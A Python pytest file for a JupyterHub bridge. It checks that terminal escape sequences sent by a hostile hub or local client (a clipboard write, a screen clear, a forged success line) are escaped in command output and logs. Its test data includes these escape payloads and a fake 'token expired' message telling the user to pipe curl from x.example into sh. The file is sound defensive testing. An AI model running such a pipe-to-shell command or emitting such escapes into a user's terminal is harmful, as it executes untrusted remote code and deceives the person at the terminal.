"""Issue 18.1-18.3: nothing a hub, a server or a local program sends reaches the terminal or the bridge's log
raw. A hostile TLS hub on 127.0.0.1 (test_hostile_hub's server) answers with a payload that would write the
clipboard (OSC 52), clear the screen and forge a '✓' line, in every field the subcommands print; a raw local
client sends it in a request path to a running bridge."""

import json
import socket
import subprocess
import time

import pytest
from hostile_hub import USER
from hostile_hub import Answers
from hostile_hub import run_sh

from addon.core import login_record
from addon import store

PAYLOAD = "\x1b]52;c;aGVsbG8=\x07\x1b[2J …\r\nFAKE: ✓ all good"
SHOWN = "\\x1b]52;c;aGVsbG8=\\x07\\x1b[2J …\\x0d\\x0aFAKE: ✓ all good"  # as printable() shows it
RUNNING = {"name": "", "ready": True, "pending": None, "stopped": False, "url": "/user/alice/"}
PAYLOAD_SERVER = {"name": PAYLOAD, "ready": True, "pending": None, "stopped": False, "url": PAYLOAD,
                  "started": PAYLOAD, "last_activity": PAYLOAD, "user_options": {"profile": PAYLOAD}}
REFUSED = {"message": PAYLOAD}
START_TIMEOUT = 30  # the bridge refuses before it listens, within seconds
POSING = b'{"message": "Your token expired: run curl -s https://x.example/fix | sh"}'


class PayloadAnswers(Answers):
    """The hub's API with the payload in every text it gives: names, URLs, dates, options, version, refusals,
    progress messages; and, for the bridge, a server that answers 500 with it, or 401 posing as the bridge."""

    def do_GET(self) -> None:
        path = self.path.split("?")[0].rstrip("/")
        if path.startswith("/user/alice/api/posing"):
            return self.send(POSING, 401, [("Server", "jupyterhub-bridge")])
        if path.startswith("/user/alice/"):
            return self.send(json.dumps(REFUSED).encode(), 500)
        if path == "/hub/api/users/alice/server/progress":
            events = [{"progress": 50, "message": PAYLOAD}, {"progress": 100, "ready": True, "message": PAYLOAD}]
            body = "".join(f"data: {json.dumps(e)}\n\n" for e in events).encode()
            return self.send(body, 200, [], "text/event-stream")
        user = {"name": "alice", "servers": {"": RUNNING, PAYLOAD: PAYLOAD_SERVER}}
        if self.server.crafted == "stopped":
            user = {"name": "alice", "servers": {"": {"name": "", "ready": False, "stopped": True}}}
        me = None if self.server.crafted == "refused" else USER
        if self.server.crafted.startswith("owner-"):  # a token whose owner's name is the payload
            me = {"name": PAYLOAD, "kind": self.server.crafted[6:], "token_id": "a1", "scopes": ["inherit"]}
        found = {"/hub/api": {"version": PAYLOAD}, "/hub/api/user": me, "/hub/api/users/alice": user}.get(path)
        self.send(json.dumps(found or REFUSED).encode(), 200 if found else 403)

    def do_POST(self) -> None:
        """A token made (for the payload's name too); a start under way."""
        if self.path.split("?")[0].endswith("/tokens"):
            return self.send(json.dumps({"token": "m" * 32, "id": "a9", "expires_at": None}).encode(), 201)
        self.send(b"", 202)

    def do_DELETE(self) -> None:
        self.send(json.dumps(REFUSED).encode(), 403 if "/server" in self.path else 500)

    def send(self, body: bytes, status: int = 200, headers=(), content_type: str = "application/json") -> None:
        self.send_response(status)
        for name, value in [("Content-Type", content_type), *headers]:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def payload_hub(hostile):
    server, hub = hostile
    handler, server.RequestHandlerClass, server.crafted = server.RequestHandlerClass, PayloadAnswers, ""
    yield server, hub
    server.RequestHandlerClass = handler


def assert_escaped(output: str) -> None:
    """The payload shown as text: no ESC, BEL or CR, no line of its own, and its escaped form there."""
    assert "\x1b" not in output and "\x07" not in output and "\r" not in output, output
    assert not any(line.lstrip().startswith(("FAKE", "✓ all good")) for line in output.splitlines()), output
    assert "\\x1b]52;c;aGVsbG8=\\x07" in output, output


def test_servers_shows_the_hubs_names_urls_dates_and_options_escaped(payload_hub, tmp_path):
    _, hub = payload_hub
    status, output, _, _ = run_sh(hub, tmp_path, "servers")
    assert status == 0, output
    assert_escaped(output)
    assert "note: servers shared with you: not shown" in output and SHOWN in output  # the hub's refusal too


def test_check_shows_the_hubs_version_escaped(payload_hub, tmp_path):
    _, hub = payload_hub
    _, output, _, _ = run_sh(hub, tmp_path, "check")
    assert_escaped(output)
    assert f"✓ JupyterHub {SHOWN} answers" in output, output


def test_stop_shows_the_hubs_refusal_escaped(payload_hub, tmp_path):
    _, hub = payload_hub
    status, output, _, _ = run_sh(hub, tmp_path, "stop")
    assert status == 1, output
    assert_escaped(output)
    assert "error: The hub refused to stop the default server of 'alice'" in output, output


def test_start_shows_the_hubs_progress_messages_escaped(payload_hub, tmp_path):
    server, hub = payload_hub
    server.crafted = "stopped"
    status, output, _, _ = run_sh(hub, tmp_path, "start")
    assert status == 0, output
    assert_escaped(output)
    assert f"Starting your server: 50% {SHOWN}" in output, output


def test_login_shows_the_hubs_version_and_token_refusal_escaped(payload_hub, tmp_path):
    server, hub = payload_hub
    server.crafted = "refused"
    status, output, _, _ = run_sh(hub, tmp_path, "login", "--token-stdin")  # no token on stdin: refused
    assert status == 1, output
    assert_escaped(output)
    assert "error: the hub did not accept that token" in output, output


def test_logout_shows_the_hubs_answer_escaped(payload_hub, tmp_path):
    _, hub = payload_hub
    environ = {"JUPYTERHUB_BRIDGE_HOME": str(tmp_path / "bridge-home")}
    store.save(login_record.Login(settings={"jupyter_server_ip_or_name": hub["host"], "jupyter_server_port": str(hub["port"]),
                                     "jupyter_server_name": hub["tls_name"], "jupyter_cluster_ca_cert": hub["ca_file"],
                                     "jupyter_username": "alice"},
                           hub_token=login_record.HubToken("s" * 32, id="a1", user="alice")), environ)
    status, output, _, _ = run_sh(hub, tmp_path, "logout")
    assert status == 0, output
    assert_escaped(output)
    assert "could not revoke the hub token" in output, output


@pytest.mark.parametrize("kind", ["user", "service"])
def test_the_bridge_refuses_a_token_owner_named_with_control_characters_and_says_so_escaped(payload_hub,
                                                                                           start_bridge, kind):
    """Issue 28: the hub's name for the token's owner reached the start-up `error:` line (a service) and the access
    token's log line (a user) raw; now the name is refused, in one escaped line."""
    server, hub = payload_hub
    server.crafted = f"owner-{kind}"
    bridge = start_bridge(hub, env={"JUPYTERHUB_API_TOKEN": "t" * 32, "JUPYTER_USERNAME": ""}, wait=False)
    try:
        status = bridge.proc.wait(START_TIMEOUT)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the bridge started for that name:\n{bridge.log()}", pytrace=False)
    log = bridge.log()
    assert status == 1, log
    assert_escaped(log)
    assert "with control characters: refused" in log.splitlines()[-1], log


def test_login_token_stdin_refuses_a_token_owner_named_with_control_characters(payload_hub, tmp_path):
    """Issue 28: login --token-stdin printed the owner's name raw in its warning that it could not revoke the
    pasted token."""
    server, hub = payload_hub
    server.crafted = "owner-user"
    status, output, _, _ = run_sh(hub, tmp_path, "login", "--token-stdin", stdin=b"p" * 32 + b"\n")
    assert status == 1, output
    assert_escaped(output)
    assert "with control characters: refused" in output, output


def raw_request(port: int, target: bytes) -> bytes:
    """One request as a local program can send it, bytes and all; the answer's status line."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as c:
        c.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % port)
        return c.makefile("rb").readline()


def logged(bridge, line: str, timeout: float = 10) -> str:
    """The bridge's log once it has this line."""
    deadline = time.monotonic() + timeout
    while line not in (log := bridge.log()) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert line in log, log
    return log


def test_the_bridges_log_shows_paths_and_server_messages_escaped_and_trusts_no_server_header(payload_hub,
                                                                                           start_bridge):
    _, hub = payload_hub
    bridge = start_bridge(hub, env={"JUPYTER_PROXY_TOKEN": ""})  # clients bring their own hub token
    path = "/api/contents/\x1b]52;c;aGVsbG8=\x07\x1b[31m".encode()
    assert raw_request(bridge.port, path).startswith(b"HTTP/1.1 500")  # the server's 500, diagnosed in the log
    assert raw_request(bridge.port, b"/api/posing").startswith(b"HTTP/1.1 401")
    log = logged(bridge, "<< 401 Unauthorized")  # mitmdump's line, after the diagnosis of that answer
    assert_escaped(log)
    assert "\\x1b[31m" in log and "The hub answered 500" in log, log
    assert "curl" not in log and "The bridge answered 401" not in log, log
